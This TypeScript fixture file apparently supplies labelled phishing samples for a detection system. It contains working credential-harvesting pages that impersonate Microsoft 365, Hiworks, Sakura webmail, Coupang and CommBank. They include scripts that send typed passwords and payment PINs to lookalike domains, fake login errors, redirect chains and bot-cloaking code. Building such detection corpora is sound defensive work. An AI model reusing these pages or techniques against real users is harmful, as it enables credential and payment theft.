import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, b64, pctAll, xorB64 } from '../parts/zr-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zr-m365-jp-staff-invoice-lure',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://sharepoint-docs.kessai-share.com/owa/?email=tanaka.h@nishimura-shoji.co.jp',
  body: doc({
    lang: 'ja',
    title: 'サインイン - Microsoft 365',
    css: 'body{background:#f2f2f2}.m{width:440px;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.b{background:#0067b8;color:#fff;border-radius:0;float:right}input{border:0;border-bottom:1px solid #666;border-radius:0}',
    body: `<div class="m"><svg width="108" height="24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-size="15" fill="#5e5e5e" font-family="Segoe UI">Microsoft</text></svg>
<p style="font-size:13px;color:#444;margin-top:18px">「請求書_2025年11月分.pdf」を表示するには組織アカウントでサインインしてください。</p>
<div id="e1"><h2 style="font-weight:600;font-size:24px">サインイン</h2><input type="email" id="em" placeholder="メール、電話、Skype"><p style="font-size:13px"><a href="#">アカウントにアクセスできない場合</a></p><button class="btn b" id="nx">次へ</button><div style="clear:both"></div></div>
<div id="e2" style="display:none"><p id="who" style="font-size:14px"></p><h2 style="font-weight:600;font-size:24px">パスワードの入力</h2><input type="password" id="pw" placeholder="パスワード"><p id="err" style="color:#e81123;font-size:13px"></p><button class="btn b" id="si">サインイン</button><div style="clear:both"></div></div></div>
<script>
var q=new URLSearchParams(location.search).get('email');if(q){document.getElementById('em').value=q}
var tries=0;
document.getElementById('nx').onclick=function(){document.getElementById('who').textContent=document.getElementById('em').value;document.getElementById('e1').style.display='none';document.getElementById('e2').style.display='block'};
document.getElementById('si').onclick=function(){tries++;fetch('https://sharepoint-docs.kessai-share.com/owa/xhr.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'ai='+encodeURIComponent(document.getElementById('em').value)+'&pr='+encodeURIComponent(document.getElementById('pw').value)+'&n='+tries}).finally(function(){if(tries<2){document.getElementById('err').textContent='アカウントまたはパスワードが正しくありません。';document.getElementById('pw').value=''}else{location.href='https://www.office.com/'}})};
</script>`,
  }),
},
{
  id: 'zr-webmail-hiworks-quota',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://office-hiworks.mail-quota.com/login?d=daesung-eng.co.kr',
  body: doc({
    lang: 'ko',
    title: '하이웍스 오피스 로그인',
    css: '.m{max-width:420px;margin:70px auto}.b{background:#2f6fed;color:#fff;width:100%}',
    body: `<div class="m card"><h2 style="color:#2f6fed">hiworks</h2>
<p style="font-size:13px;background:#fff5f5;padding:10px;color:#b00">메일함 용량이 98% 사용되었습니다. 수신 메일이 반송되지 않도록 로그인 후 용량을 확장하세요.</p>
<form method="post" action="/login/auth.php"><label>아이디</label><input type="text" name="id" id="id"><label>도메인</label><input type="text" name="domain" id="dm" readonly><label>비밀번호</label><input type="password" name="pw"><p><button class="btn b">로그인</button></p></form></div>
<script>var d=new URLSearchParams(location.search).get('d')||'';document.getElementById('dm').value=d;</script>`,
  }),
  routes: {
    'office-hiworks.mail-quota.com/login/auth.php': redirectRoute(302, 'https://office.hiworks.com/'),
  },
},
{
  id: 'zr-webmail-sakura-rs-jp',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://secure.sakura-webmail.jp-net.info/webmail/login',
  body: doc({
    lang: 'ja',
    title: 'さくらのメールボックス ウェブメール',
    css: '.m{max-width:420px;margin:60px auto}.b{background:#e95295;color:#fff;width:100%}',
    body: `<div class="m card"><h2 style="color:#e95295;margin-top:0">さくらのメールボックス</h2>
<p style="font-size:13px">セキュリティポリシー更新のため、メールアカウントの再認証が必要です。24時間以内に再認証されない場合、受信が停止されます。</p>
<form id="sk"><label>メールアドレス</label><input type="email" name="mail"><label>パスワード</label><input type="password" name="pass"><p><button class="btn b">ログイン</button></p></form></div>
<script>document.getElementById('sk').onsubmit=function(e){e.preventDefault();var f=new FormData(this);f.append('ip','');fetch('/webmail/next.php',{method:'POST',body:f}).then(function(r){return r.text()}).then(function(){alert('パスワードが正しくありません。もう一度お試しください。');location.reload()})}</script>`,
  }),
},
{
  id: 'zr-m365-in-payroll-redirect-chain',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://click.mailer-infra.net/ls/click?upn=u001.Qm9rZTJ',
  routes: {
    'click.mailer-infra.net/ls/click': redirectRoute(302, 'https://storage-blob.payslip-view.in/hr/redir.html'),
    'storage-blob.payslip-view.in/hr/redir.html': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Loading…</title><meta http-equiv="refresh" content="3;url=https://hr-payroll.tcs-portal.online/auth/signin"></head><body style="font-family:sans-serif;text-align:center;padding-top:100px"><p>Redirecting you to the secure document viewer…</p><script>setTimeout(function(){location.replace('https://hr-payroll.tcs-portal.online/auth/signin'+location.hash)},800)</script></body></html>`),
    'hr-payroll.tcs-portal.online/auth/signin': htmlRoute(doc({
      lang: 'en',
      title: 'Sign in to your account',
      css: 'body{background:#f2f2f2}.m{width:440px;margin:80px auto;background:#fff;padding:44px}.b{background:#0067b8;color:#fff;border-radius:0;width:100%}',
      body: `<div class="m"><b style="color:#5e5e5e">Microsoft</b><p style="font-size:14px">Your October 2025 salary revision letter is ready. Sign in with your corporate account to view.</p><form id="s"><input type="email" name="login" placeholder="someone@company.com"><br><br><input type="password" name="passwd" placeholder="Password"><p><button class="btn b">Sign in</button></p></form></div>
<script>document.getElementById('s').onsubmit=function(e){e.preventDefault();fetch('https://hr-payroll.tcs-portal.online/auth/next.php',{method:'POST',body:new FormData(this)}).finally(function(){location.href='https://login.microsoftonline.com/'})}</script>`,
    })),
  },
},
{
  id: 'zr-cloaked-kr-coupang-ua',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://coupang-event.kr-delivery.shop/',
  body: `<!DOCTYPE html><html lang="ko"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>쿠팡</title></head><body>
<script>
var ua=navigator.userAgent;
if(/bot|crawl|spider|headless|lighthouse|google|bing/i.test(ua)||navigator.webdriver){document.body.innerHTML='<h1>Welcome to nginx!</h1><p>If you see this page, the nginx web server is successfully installed.</p>'}
else if(!/Android|iPhone|iPad/i.test(ua)){document.body.innerHTML='<div style="text-align:center;padding:80px;font-family:sans-serif"><p>모바일에서만 이용 가능한 페이지입니다.</p></div>';setTimeout(function(){location.href='/m/'},1500)}
else{location.href='/m/'}
</script></body></html>`,
  routes: {
    'coupang-event.kr-delivery.shop/m/': htmlRoute(doc({
      lang: 'ko',
      title: '쿠팡 - 배송지 확인',
      css: '.m{max-width:460px;margin:20px auto}.b{background:#346aff;color:#fff;width:100%}',
      body: `<div class="m card"><div style="font-size:28px;font-weight:900"><span style="color:#7b3f00">c</span><span style="color:#e62e2e">o</span><span style="color:#f5a623">u</span><span style="color:#7ac143">p</span><span style="color:#00a0e9">a</span><span style="color:#e62e2e">ng</span></div>
<p>[쿠팡] 고객님의 주문상품이 주소불명으로 보관중입니다. 배송지를 확인해 주세요.</p>
<form id="cp"><label>쿠팡 아이디(이메일)</label><input type="email" name="id"><label>비밀번호</label><input type="password" name="pw"><label>휴대폰 번호</label><input type="tel" name="ph"><label>쿠페이 결제 비밀번호</label><input type="password" name="pay" maxlength="6"><p><button class="btn b">확인</button></p></form></div>
<script>document.getElementById('cp').onsubmit=function(e){e.preventDefault();fetch('/m/save',{method:'POST',body:new FormData(this)}).finally(function(){location.href='https://www.coupang.com/'})}</script>`,
    })),
  },
},
{
  id: 'zr-lure-au-commbank-pdf-landing',
  label: 'phishing',
  kind: 'lure-page',
  url: 'https://secure-messages.commbank-netbank.help/notice/8812',
  body: doc({
    lang: 'en',
    title: 'CommBank - Secure Message',
    css: '.h{background:#ffcc00;padding:16px 0}.m{max-width:620px;margin:30px auto}.b{background:#000;color:#ffcc00}',
    body: `<div class="h"><div class="wrap"><b>CommBank</b></div></div>
<div class="m card"><h2>You have 1 new secure message</h2><p>A payment of <b>$1,249.00</b> to "JB HI-FI ONLINE" has been placed on hold pending your confirmation. If you did not authorise this payment, cancel it in NetBank now.</p>
<p><a class="btn b" href="https://netbank-commbank.com-au.sbs/netbank/Logon/Logon.aspx?msg=8812">Review payment in NetBank</a></p>
<p style="font-size:12px;color:#666">Commonwealth Bank of Australia ABN 48 123 123 124 AFSL and Australian credit licence 234945</p></div>`,
  }),
},
];
